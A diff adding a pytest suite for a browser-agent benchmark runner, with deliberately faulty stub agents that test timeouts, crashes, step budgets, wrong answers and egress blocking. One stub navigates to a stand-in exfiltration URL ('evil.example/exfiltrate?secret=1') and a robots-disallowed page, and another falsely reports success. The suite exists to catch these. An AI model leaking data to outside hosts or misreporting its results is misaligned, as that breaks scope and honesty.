@@ -1,0 +1,220 @@
+"""The runner in real Chromium against the newsroom: lifecycle, budgets, egress, failures."""
+
+from __future__ import annotations
+
+import asyncio
+import copy
+import json
+from pathlib import Path
+from urllib.parse import urljoin
+
+import pytest
+
+from newsbench_dagster.core.agents import AgentManifest, build_agent
+from newsbench_dagster.core.artifacts import LocalArtifactStore
+from newsbench_dagster.core.producer import make_tasks, poll_site
+from newsbench_dagster.core.runner import Runner, RunSettings, run_tasks
+from newsbench_dagster.core.scoring import score_run
+
+
+def manifest(name: str) -> AgentManifest:
+    return AgentManifest(name=name, version="1", adapter="reference")
+
+
+class WrongAgent:
+    """Answers with the last headline in <main>: a real page headline, not the lead."""
+
+    manifest = manifest("wrong")
+
+    async def run(self, task, tools):
+        if task.intent == "find_top_headline":
+            await tools.extract_text("main h2 a, main h3 a")
+            headlines = await tools.page.locator("main :is(h2, h3) a").all_inner_texts()
+            links = await tools.page.locator("main :is(h2, h3) a").evaluate_all(
+                "els => els.map(e => e.href)"
+            )
+            await tools.answer({"headline": headlines[-1], "url": links[-1]})
+        else:
+            md = await tools.get_metadata()
+            await tools.answer(
+                {
+                    "headline": md["title"],
+                    "authors": ["Nobody Inparticular"],
+                    "published": "2001-01-01T00:00:00Z",
+                }
+            )
+
+
+class HangingAgent:
+    manifest = manifest("hang")
+
+    async def run(self, task, tools):
+        await tools.get_metadata()
+        await asyncio.sleep(3600)
+
+
+class CrashingAgent:
+    manifest = manifest("crash")
+
+    async def run(self, task, tools):
+        raise RuntimeError("model returned garbage")
+
+
+class OffsiteAgent:
+    """Tries to leave the allowlist, then a robots-disallowed page, then answers nothing."""
+
+    manifest = manifest("offsite")
+
+    async def run(self, task, tools):
+        await tools.goto("http://evil.example/exfiltrate?secret=1")
+        await tools.goto(urljoin(task.entry_url, "/private/archive"))
+
+
+class SteppingAgent:
+    manifest = manifest("stepper")
+
+    async def run(self, task, tools):
+        while True:
+            await tools.extract_text("h1")
+
+
+AGENTS = [
+    build_agent(AgentManifest(name="reference", version="0.1.0", adapter="reference")),
+    WrongAgent(),
+    HangingAgent(),
+    CrashingAgent(),
+    OffsiteAgent(),
+    SteppingAgent(),
+]
+
+
+@pytest.fixture(scope="module")
+def tasks(newsroom_server, registry):
+    from datetime import UTC, datetime
+
+    from newsbench_dagster.core.network import Fetcher, Routing
+
+    day = datetime.now(UTC).date()
+    with Fetcher(Routing.via_proxy(newsroom_server.address), registry.allowed_origins) as f:
+        rows = poll_site(registry.get("harbor"), f, None, day)
+    tasks = make_tasks(registry.get("harbor"), day, rows, articles_per_site=1)
+    for t in tasks:
+        t["constraints"]["max_seconds"] = 4
+        t["constraints"]["max_steps"] = 6
+    return day, tasks
+
+
+@pytest.fixture(scope="module")
+def batch(tasks, browser_options, newsroom_server, registry, tmp_path_factory):
+    from newsbench_dagster.core.network import Fetcher, RobotsRules, Routing
+
+    day, task_list = tasks
+    with Fetcher(Routing.via_proxy(newsroom_server.address), registry.allowed_origins) as f:
+        robots = RobotsRules.fetch(f, registry.allowed_origins)
+    invalid = copy.deepcopy(task_list[0])
+    invalid["id"] = "t-" + "0" * 16
+    invalid["constraints"]["respect_robots"] = False
+    store = LocalArtifactStore(tmp_path_factory.mktemp("artifacts"))
+    seen = len(newsroom_server.requests)
+    runner = Runner(
+        AGENTS,
+        options=browser_options,
+        robots=robots,
+        store=store,
+        settings=RunSettings(concurrency=3),
+    )
+    rows = run_tasks([*task_list, invalid], day, runner)
+    by_id = {t["id"]: t for t in task_list}
+    scores = {r["run_id"]: score_run(r, by_id.get(r["task_id"])) for r in rows}
+    hosts = {r["host"] for r in list(newsroom_server.requests)[seen:]}
+    return rows, scores, hosts
+
+
+def runs_of(batch, agent):
+    rows, scores, _ = batch
+    return [
+        (r, scores[r["run_id"]])
+        for r in rows
+        if r["agent_name"] == agent and r["run_status"] != "env_failure"
+    ]
+
+
+def test_reference_agent_succeeds_on_both_intents(batch):
+    runs = runs_of(batch, "reference")
+    assert {r["intent"] for r, _ in runs} == {"find_top_headline", "extract_article_metadata"}
+    for run, score in runs:
+        assert score["success"], score["checker"]
+        assert score["failure_class"] == "success"
+        assert run["observation"]["final"]["url"]  # observed before cleanup
+        assert run["environment"]["browser_version"]
+        assert run["steps"] >= 1 and run["requests"] >= 1 and run["answer_seconds"] is not None
+        assert 0 < score["reward"] <= 1 and score["ttfc_seconds"] is not None
+        assert Path(run["artifacts"]["screenshot"].removeprefix("file://")).stat().st_size > 1000
+        saved = json.loads(Path(run["artifacts"]["run"].removeprefix("file://")).read_text())
+        assert saved["run_id"] == run["run_id"]
+
+
+def test_wrong_answers_are_failures_despite_claims(batch):
+    for run, score in runs_of(batch, "wrong"):
+        assert run["self_reported_success"] is True
+        assert score["success"] is False and score["claim_mismatch"] is True
+        assert score["failure_class"] in ("wrong_target", "perception")
+        assert score["reward"] < 0.6
+
+
+def test_hanging_agent_is_stopped_and_the_page_still_observed(batch):
+    for run, score in runs_of(batch, "hang"):
+        assert run["run_status"] == "timeout"
+        assert (run["ended_at"] - run["started_at"]).total_seconds() < 15
+        assert run["observation"]["final"] is not None
+        assert score["failure_class"] == "planning" and score["excluded"] is False
+
+
+def test_crashing_agent_is_an_agent_failure(batch):
+    for run, score in runs_of(batch, "crash"):
+        assert run["run_status"] == "agent_error" and "garbage" in run["error"]
+        assert score["failure_class"] == "planning" and score["success"] is False
+
+
+def test_egress_is_blocked_and_logged_as_safety_events(batch):
+    _, _, hosts = batch
+    runs = runs_of(batch, "offsite")
+    assert runs
+    for run, score in runs:
+        kinds = sorted(e["kind"] for e in run["safety_events"])
+        assert kinds == ["off_allowlist", "robots_disallowed"]
+        assert all(
+            not r["fetched"]
+            for r in run["request_log"]
+            if "private" in r["url"] or "evil" in r["url"]
+        )
+        assert score["failure_class"] == "policy_block" and score["verdicts"]["security"] == "fail"
+    assert "evil.example" not in hosts  # nothing reached even the proxy
+
+
+def test_step_budget_is_enforced(batch):
+    for run, score in runs_of(batch, "stepper"):
+        assert run["run_status"] == "budget_exceeded" and run["steps"] == 6
+        assert score["failure_class"] == "planning"
+
+
+def test_invalid_task_is_reported_not_run(batch):
+    rows, scores, _ = batch
+    bad = [r for r in rows if r["task_id"] == "t-" + "0" * 16]
+    assert len(bad) == len(AGENTS)
+    for r in bad:
+        assert r["env_failure"] == "invalid_task" and "respect_robots" in r["error"]
+        assert scores[r["run_id"]]["excluded"] is True
+
+
+def test_site_down_is_an_environment_failure(tasks, browser_options, newsroom, robots, tmp_path):
+    day, task_list = tasks
+    newsroom.faults.set("harbor", "down")
+    runner = Runner(
+        AGENTS[:1], options=browser_options, robots=robots, store=LocalArtifactStore(tmp_path)
+    )
+    rows = run_tasks(task_list, day, runner)
+    for r in rows:
+        assert r["run_status"] == "env_failure" and r["env_failure"] == "site_down", r["error"]
+        score = score_run(r, next(t for t in task_list if t["id"] == r["task_id"]))
+        assert score["excluded"] and score["success"] is None
